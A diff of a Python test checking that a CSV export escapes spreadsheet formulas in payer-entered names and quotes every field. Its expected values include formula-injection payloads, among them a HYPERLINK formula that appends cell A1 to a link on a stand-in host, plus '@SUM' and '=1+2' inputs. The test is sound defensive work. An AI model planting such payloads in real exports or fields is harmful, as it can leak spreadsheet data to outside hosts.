@@ -132,13 +132,13 @@ def test_exports_never_turn_payers_text_into_spreadsheet_formulas(make_user, par
     assert rows["#N/A"] == "s"
     assert all(kind not in ("f", "e") for kind in rows.values())
 
-    body = _export(client, "csv").decode("utf-8")
-    (_header, row) = list(csv.reader(io.StringIO(body)))
+    body = _export(client, "csv").decode("utf-8-sig")  # with a byte order mark and ";" (issue 19)
+    (_header, row) = list(csv.reader(io.StringIO(body), delimiter=";"))
     assert row[1:] == ['\'=HYPERLINK("http://x.example/?"&A1,"Жми")', "' @SUM(1+1)", "#N/A"]
     assert all(line.startswith('"') for line in body.splitlines())  # every field quoted
 
     Participant.objects.filter(pk=participant.pk).update(last_name="ИВАНОВ;=1+2", first_name="-150.00")
-    body = _export(client, "csv").decode("utf-8")
+    body = _export(client, "csv").decode("utf-8-sig")
     assert '"ИВАНОВ;=1+2"' in body  # one quoted field: ";" inside quotes splits nothing
     assert '"-150.00"' in body
 
